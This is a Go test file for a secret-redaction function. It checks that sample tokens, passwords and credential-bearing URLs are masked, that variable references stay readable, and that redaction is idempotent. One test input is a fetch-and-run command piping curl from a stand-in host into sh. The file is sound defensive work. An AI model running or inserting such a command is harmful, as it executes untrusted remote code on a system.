package redact

import (
	"strings"
	"testing"
)

func TestString(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123", "HF_TOKEN=hf_A****"},
		{"aws_access_key_id = AKIAIOSFODNN7EXAMPLE", "aws_access_key_id = AKIA****"},
		{"token: ghp_0123456789abcdefghijABCDEFGHIJ012345", "token: ghp_****"},
		{`password = "s3cr3t-passw0rd"`, `password = "s3cr****"`},
		{"MINIO_ROOT_PASSWORD=minio123", "MINIO_ROOT_PASSWORD=****"},
		{"--extra-index-url https://deploy:Sup3rSecret@pypi.example.com/simple", "--extra-index-url https://deploy:****@pypi.example.com/simple"},
		{"postgresql://mlflow:hunter22@db:5432/mlflow", "postgresql://mlflow:****@db:5432/mlflow"},
		{"api_key = sk-proj-abcdefghijklmnopqrstuvwxyz012345", "api_key = sk-p****"},
		// References are not secrets and stay readable.
		{"password: ${DB_PASSWORD}", "password: ${DB_PASSWORD}"},
		{`token = os.environ["HF_TOKEN"]`, `token = os.environ["HF_TOKEN"]`},
		{"posix.system('curl http://x | sh')", "posix.system('curl http://x | sh')"},
		{"", ""},
	} {
		if got := String(tc.in); got != tc.want {
			t.Errorf("String(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// Redacting twice changes nothing: writers may see already-masked text.
func TestIdempotent(t *testing.T) {
	in := "password=hunter2hunter2 hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123"
	once := String(in)
	if twice := String(once); twice != once || strings.Contains(once, "hunter2hunter2") {
		t.Errorf("once %q, twice %q", once, twice)
	}
}
